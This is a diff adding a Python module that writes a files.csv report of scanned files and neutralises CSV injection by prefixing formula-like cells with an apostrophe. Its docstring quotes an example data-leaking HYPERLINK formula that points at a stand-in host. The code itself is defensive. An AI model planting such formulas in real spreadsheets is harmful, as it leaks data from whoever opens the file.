@@ -1,0 +1,65 @@
+"""files.csv: every file, one row each, with the columns of report.xlsx's "All files".
+
+CSV injection: a spreadsheet program opening a CSV evaluates any cell that
+starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and anyone who can
+name a file on a shared drive controls our cells (a file called
+``=HYPERLINK("http://evil/?"&A1,"open")`` would leak a neighbouring cell when
+clicked).  A CSV cannot mark a cell as text the way the xlsx quote prefix
+does, so such cells are written with a leading apostrophe (OWASP's advice):
+Excel and LibreOffice then show the value as text.  The cost is that a
+script reading files.csv sees the apostrophe; findings.json is the exact,
+machine-readable record.  Tab and CR count too, because some importers strip
+them and then see the character after.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, datetime
+from pathlib import Path
+from typing import Any
+
+from reports._output import write_private_bytes
+from reports._summary import entity_columns
+from reports._table import all_files_header, all_files_row
+from scanner.results import ScanResult
+
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: Any) -> str:
+    """One value as CSV text: dates ISO 8601, None empty, formula-like text neutralised."""
+    if value is None:
+        return ""
+    if isinstance(value, datetime):
+        return value.isoformat(sep=" ")
+    if isinstance(value, date):
+        return value.isoformat()
+    if isinstance(value, bool | int | float):
+        return str(value)
+    text = str(value)
+    if text.startswith(FORMULA_PREFIXES):
+        return "'" + text
+    return text
+
+
+def render_csv(result: ScanResult) -> bytes:
+    """Return files.csv as bytes: UTF-8 with a byte order mark, CRLF line ends.
+
+    The BOM is what makes Excel read UTF-8 (pupils' names are not all ASCII);
+    CRLF is RFC 4180.  Values with commas, quotes or newlines are quoted.
+    """
+    buffer = io.StringIO(newline="")
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer.writerow(all_files_header(result))
+    columns = entity_columns(result)
+    for record in result.files:
+        writer.writerow([csv_cell(value) for value in all_files_row(record, columns)])
+    # backslashreplace: a stray lone surrogate must not lose the report.
+    return buffer.getvalue().encode("utf-8-sig", "backslashreplace")
+
+
+def write_csv(result: ScanResult, path: Path) -> None:
+    """Write files.csv for ``result`` to ``path`` (private, atomic)."""
+    write_private_bytes(path, render_csv(result))
